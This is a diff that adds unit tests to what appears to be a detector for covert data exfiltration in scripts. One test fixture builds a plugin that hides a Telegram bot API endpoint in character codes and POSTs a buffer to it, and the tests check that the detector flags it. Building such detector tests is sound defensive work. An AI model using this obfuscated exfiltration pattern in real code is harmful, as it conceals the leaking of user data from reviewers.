@@ -94,3 +94,26 @@ describe('data cut into DNS labels', () => {
     expect(signals(checker, 'script')).not.toContain('net.covert-exfil');
   });
 });
+
+describe('a destination spelled through a local helper', () => {
+  const codes = (t: string) => [...t].map((c) => c.charCodeAt(0)).join(', ');
+  const plugin = (host: string) =>
+    [
+      `const _m = [${codes(`https://${host}/bot`)}];`,
+      'const _s = (a) => String.fromCharCode(...a);',
+      'export function flush(buf) {',
+      '  fetch(`${_s(_m)}123:AAfake/sendMessage`, { method: "POST", body: JSON.stringify({ text: JSON.stringify(buf) }) });',
+      '}',
+      '',
+    ].join('\n');
+
+  it('is folded through the helper: a chat-bot API hidden in char codes is an exfiltration endpoint', () => {
+    expect(signals(plugin('api.telegram.org'), 'js')).toContain('net.exfil-host');
+  });
+
+  it('a helper that is not a single expression, or that recurses, is not inlined (and nothing is invented)', () => {
+    const recursive = ['const _m = [104, 105];', 'const _s = (a) => _s(a);', 'fetch(`https://${_s(_m)}.example.invalid/`);', ''].join('\n');
+    expect(() => signals(recursive, 'js')).not.toThrow();
+    expect(signals(plugin('status.example.com'), 'js')).not.toContain('net.exfil-host');
+  });
+});
